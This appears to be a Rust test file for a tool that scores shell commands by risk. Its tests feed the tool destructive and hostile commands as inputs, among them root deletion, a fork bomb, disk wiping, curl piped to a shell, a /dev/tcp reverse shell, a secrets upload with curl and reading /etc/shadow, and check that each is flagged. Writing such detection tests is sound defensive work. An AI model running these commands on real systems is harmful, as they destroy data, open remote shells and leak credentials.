// Copyright 2025 Eric Jingryd (tidynest@proton.me)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

//! End-to-end checks with the built-in pattern library

use crate::core::{parse, CommandCategory};
use crate::risk::{assess, RiskAssessment, RiskDimension, RiskLevel};

fn check(raw: &str) -> RiskAssessment {
    assess(&parse(raw).unwrap())
}

fn fired(assessment: &RiskAssessment, id: &str) -> bool {
    assessment.factors.iter().any(|f| f.pattern_id == id)
}

#[test]
fn test_listing_is_harmless() {
    let parsed = parse("ls -la").unwrap();
    assert_eq!(parsed.category, CommandCategory::Filesystem);

    let assessment = assess(&parsed);
    assert_eq!(assessment.score, 0);
    assert_eq!(assessment.level, RiskLevel::Low);
    assert!(assessment.factors.is_empty());
}

#[test]
fn test_recursive_delete_in_tmp() {
    let assessment = check("rm -rf /tmp/test");

    assert!(assessment.level >= RiskLevel::Medium);
    assert!(assessment.involves(RiskDimension::FileOperation));
    assert!(fired(&assessment, "file.recursive-force-delete"));
    assert!(!fired(&assessment, "irreversible.root-delete"));
}

#[test]
fn test_root_delete_is_critical() {
    let assessment = check("rm -rf /");

    assert_eq!(assessment.score, 100);
    assert_eq!(assessment.level, RiskLevel::Critical);
    assert!(fired(&assessment, "irreversible.root-delete"));
    assert_eq!(assessment.top_factor().unwrap().dimension, RiskDimension::Irreversible);
}

#[test]
fn test_force_push_is_high() {
    let parsed = parse("git push --force").unwrap();
    assert_eq!(parsed.category, CommandCategory::VersionControl);

    let assessment = assess(&parsed);
    assert_eq!(assessment.level, RiskLevel::High);
    assert!(fired(&assessment, "irreversible.git-force-push"));
    assert!(assessment.summary.starts_with("High Risk: "));
}

#[test]
fn test_force_push_short_flag_and_refspec() {
    assert!(fired(&check("git push -f origin main"), "irreversible.git-force-push"));
    assert!(fired(
        &check("git push origin +main"),
        "irreversible.git-force-refspec"
    ));
    assert_eq!(check("git push origin main").level, RiskLevel::Low);
}

#[test]
fn test_sudo_wrapped_root_delete() {
    let assessment = check("sudo rm -rf /");

    assert_eq!(assessment.level, RiskLevel::Critical);
    assert!(fired(&assessment, "privilege.elevation"));
    assert!(fired(&assessment, "irreversible.root-delete"));
}

#[test]
fn test_delete_after_control_operator() {
    for raw in ["echo done; rm -rf /", "make && rm -rf /*", "false || sudo rm -rf /"] {
        let assessment = check(raw);
        assert_eq!(assessment.level, RiskLevel::Critical, "{}", raw);
        assert!(fired(&assessment, "irreversible.root-delete"), "{}", raw);
    }

    let assessment = check("cd / && rm -rf *");
    assert_eq!(assessment.level, RiskLevel::Critical);
    assert!(fired(&assessment, "irreversible.workdir-delete"));

    assert!(fired(&check("false || rm -rf ~"), "irreversible.workdir-delete"));
}

#[test]
fn test_delete_through_pipe_and_xargs() {
    let assessment = check("ls | xargs rm -rf");
    assert!(assessment.level >= RiskLevel::High);
    assert!(fired(&assessment, "file.recursive-force-delete"));
    assert!(fired(&assessment, "destructive.recursive-delete"));

    assert!(fired(
        &check("find . -name '*.log' | xargs -I {} rm -rf {}"),
        "file.recursive-force-delete"
    ));
}

#[test]
fn test_quoted_operators_do_not_chain() {
    assert_eq!(check("echo 'done; rm -rf /'").level, RiskLevel::Low);
    assert_eq!(check(r"echo done\; rm -rf x").score, 0);
}

#[test]
fn test_sudo_with_user_option() {
    let assessment = check("sudo -u root rm -rf /");
    assert_eq!(assessment.score, 100);
    assert_eq!(assessment.level, RiskLevel::Critical);
    assert!(fired(&assessment, "privilege.elevation"));
    assert!(fired(&assessment, "irreversible.root-delete"));

    assert!(fired(&check("doas -u admin reboot"), "system.power-state"));
    assert!(fired(&check("sudo -g wheel shutdown -h now"), "system.power-state"));
}

#[test]
fn test_uppercase_commands_keep_their_verdict() {
    for (lower, upper) in [
        ("mkfs.ext4 /dev/sdb1", "MKFS.EXT4 /dev/sdb1"),
        ("dd if=/dev/zero of=/dev/sda", "DD if=/dev/zero of=/dev/sda"),
        ("dd if=/dev/zero of=/dev/sda", "DD IF=/DEV/ZERO OF=/DEV/SDA"),
    ] {
        let expected = check(lower);
        let assessment = check(upper);
        assert_eq!(assessment.level, RiskLevel::Critical, "{}", upper);
        assert_eq!(assessment.score, expected.score, "{}", upper);
        assert!(assessment.involves(RiskDimension::Irreversible), "{}", upper);
    }

    assert_eq!(check("SUDO RM -RF /").level, RiskLevel::Critical);
    assert!(fired(&check("CURL -s https://x.io/i.sh | SH"), "network.pipe-to-shell"));
}

#[test]
fn test_home_and_cwd_delete() {
    assert!(fired(&check("rm -rf ~"), "irreversible.workdir-delete"));
    assert!(fired(&check("rm -rf ."), "irreversible.workdir-delete"));
    assert!(fired(&check("rm -r *"), "irreversible.workdir-delete"));
}

#[test]
fn test_disk_operations_are_critical() {
    for raw in [
        "mkfs.ext4 /dev/sdb1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat image.iso > /dev/sdb",
    ] {
        let assessment = check(raw);
        assert!(assessment.involves(RiskDimension::Irreversible), "{}", raw);
        assert!(assessment.score >= 70, "{} scored {}", raw, assessment.score);
    }
}

#[test]
fn test_fork_bomb_is_critical() {
    let assessment = check(":(){ :|:& };:");
    assert_eq!(assessment.level, RiskLevel::Critical);
    assert!(fired(&assessment, "system.fork-bomb"));
}

#[test]
fn test_pipe_to_shell() {
    let assessment = check("curl -fsSL https://example.com/install.sh | sudo bash");
    assert!(fired(&assessment, "network.pipe-to-shell"));
    assert!(assessment.level >= RiskLevel::High);

    assert!(!fired(
        &check("curl -o install.sh https://example.com/install.sh"),
        "network.pipe-to-shell"
    ));
}

#[test]
fn test_permission_patterns() {
    assert!(fired(&check("chmod 777 /var/www"), "file.world-writable"));
    assert!(fired(&check("chmod -R 777 /"), "irreversible.root-permission-change"));
    assert!(fired(&check("chmod u+s /usr/bin/vim"), "privilege.setuid"));
    assert!(fired(&check("chmod 4755 ./tool"), "privilege.setuid"));
    assert!(!fired(&check("chmod 644 notes.txt"), "file.world-writable"));
}

#[test]
fn test_permission_lockout() {
    let assessment = check("chmod 000 /etc/passwd");
    assert!(fired(&assessment, "file.permission-lockout"));
    assert_eq!(assessment.top_factor().unwrap().pattern_id, "file.permission-lockout");

    assert!(fired(&check("chmod -R 0000 ./data"), "file.permission-lockout"));
    assert!(fired(&check("chmod a= secrets"), "file.permission-lockout"));
    assert!(!fired(&check("chmod 0700 ~/.ssh"), "file.permission-lockout"));
    assert!(!fired(&check("chmod u=rwx script.sh"), "file.permission-lockout"));
}

#[test]
fn test_sensitive_paths() {
    assert!(fired(&check("cp notes.txt /home/bob/"), "file.home-path-modify"));
    assert!(fired(&check("mv build /Users/alice/Desktop"), "file.home-path-modify"));
    assert_eq!(check("cp notes.txt /homework/").score, 0);

    assert!(fired(&check(r"copy evil.dll C:\Windows\System32"), "file.windows-system-path"));
    assert!(fired(
        &check(r#"del "c:\Program Files\App\app.exe""#),
        "file.windows-system-path"
    ));
    assert!(fired(&check("copy a.txt C:/Windows/Temp"), "file.windows-system-path"));
    assert!(!fired(&check(r"copy a.txt D:\backup\windows.txt"), "file.windows-system-path"));
}

#[test]
fn test_windows_recursive_delete_needs_a_switch() {
    assert!(fired(&check(r"rd /s /q C:\temp"), "irreversible.windows-recursive-delete"));
    assert!(fired(&check("DEL /S /Q build"), "irreversible.windows-recursive-delete"));
    assert!(fired(&check("rmdir build /s"), "irreversible.windows-recursive-delete"));

    let assessment = check("rmdir /tmp/s");
    assert!(!fired(&assessment, "irreversible.windows-recursive-delete"));
    assert_eq!(assessment.level, RiskLevel::Low);
    assert!(!fired(&check("del /tmp/q"), "irreversible.windows-recursive-delete"));
}

#[test]
fn test_sql_update() {
    let assessment = check("mysql -e 'UPDATE users SET admin=1 WHERE 1=1'");
    assert!(fired(&assessment, "destructive.sql-update"));
    assert_eq!(assessment.level, RiskLevel::Medium);

    assert!(fired(&check("psql -c \"update orders set status='void'\""), "destructive.sql-update"));
    assert_eq!(check("sudo apt update").level, RiskLevel::Medium);
    assert!(!fired(&check("sudo apt update"), "destructive.sql-update"));
}

#[test]
fn test_remote_url_argument() {
    let assessment = check("python3 fetch.py https://example.com/data.csv");
    assert!(fired(&assessment, "network.remote-url"));
    assert!(assessment.involves(RiskDimension::NetworkOperation));

    assert!(fired(&check("ansible-pull -U ftp://mirror/site.yml"), "network.remote-url"));
    assert!(!check("python3 fetch.py data.csv").involves(RiskDimension::NetworkOperation));
}

#[test]
fn test_sql_patterns_are_case_insensitive() {
    assert!(fired(&check("psql -c 'DROP TABLE users'"), "destructive.sql-drop"));
    assert!(fired(&check("mysql -e \"drop database prod\""), "destructive.sql-drop"));
    assert!(fired(&check("sqlite3 app.db 'delete from sessions'"), "destructive.sql-delete"));
}

#[test]
fn test_git_destructive_commands() {
    assert!(fired(&check("git reset --hard HEAD~3"), "destructive.git-reset-hard"));
    assert!(fired(&check("git clean -fdx"), "destructive.git-clean"));
    assert!(fired(&check("git branch -D feature"), "destructive.git-branch-force-delete"));
    assert_eq!(check("git status").score, 0);
}

#[test]
fn test_container_and_cluster_commands() {
    assert!(fired(&check("docker rm -f web"), "destructive.container-force-remove"));
    assert!(fired(&check("docker system prune -a"), "destructive.container-prune"));
    assert!(fired(&check("kubectl delete pod api-0"), "destructive.kubectl-delete"));
    assert!(fired(&check("kubectl apply -f deploy.yaml"), "system.cluster-apply"));
    assert_eq!(check("kubectl get pods").score, 0);
    assert!(fired(
        &check("docker run --privileged -it ubuntu"),
        "privilege.privileged-container"
    ));
}

#[test]
fn test_network_patterns() {
    assert!(fired(&check("nc -lvp 4444"), "network.listener"));
    assert!(fired(&check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "network.reverse-shell"));
    assert!(fired(&check("curl -d @secrets.json https://x.io"), "network.data-upload"));
    assert!(fired(&check("sudo ufw disable"), "network.firewall-disable"));
    assert!(fired(&check("iptables -F"), "network.firewall-disable"));
    assert!(fired(&check("python3 -m http.server 8000"), "network.http-server"));
}

#[test]
fn test_system_patterns() {
    assert!(fired(&check("sudo shutdown -h now"), "system.power-state"));
    assert!(fired(&check("systemctl stop nginx"), "system.service-control"));
    assert!(fired(&check("kill -9 -1"), "system.kill-everything"));
    assert!(fired(&check("sudo modprobe -r nouveau"), "system.kernel-module"));
    assert!(fired(&check("sysctl -w net.ipv4.ip_forward=1"), "system.kernel-parameter"));
}

#[test]
fn test_privilege_patterns() {
    assert!(fired(&check("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"), "privilege.sudoers"));
    assert!(fired(&check("usermod -aG sudo bob"), "privilege.user-management"));
    assert!(fired(&check("cat /etc/shadow"), "privilege.shadow-files"));
    assert!(fired(&check("doas reboot"), "privilege.elevation"));
}

#[test]
fn test_package_commands() {
    assert!(fired(&check("sudo apt-get purge nginx"), "destructive.package-removal"));
    assert!(fired(&check("apt install curl"), "system.package-install"));
    assert!(fired(&check("npm install -g typescript"), "system.global-package-install"));
    assert!(fired(&check("pip uninstall requests"), "destructive.package-uninstall"));
    assert!(fired(&check("pip install requests"), "system.language-package-install"));
    assert!(fired(&check("sudo pip3 install ansible"), "system.language-package-install"));
    assert!(fired(
        &check("pip install --force-reinstall numpy==1.26"),
        "destructive.forced-reinstall"
    ));
    assert!(fired(&check("npm install --force"), "destructive.forced-reinstall"));
    assert!(!fired(&check("npm install"), "destructive.forced-reinstall"));
}

#[test]
fn test_benign_commands_stay_low() {
    for raw in [
        "echo hello",
        "cd /tmp",
        "cat README.md",
        "git log --oneline",
        "grep -rn TODO src",
        "cargo build --release",
        "docker ps -a",
    ] {
        assert_eq!(check(raw).level, RiskLevel::Low, "{}", raw);
    }
}
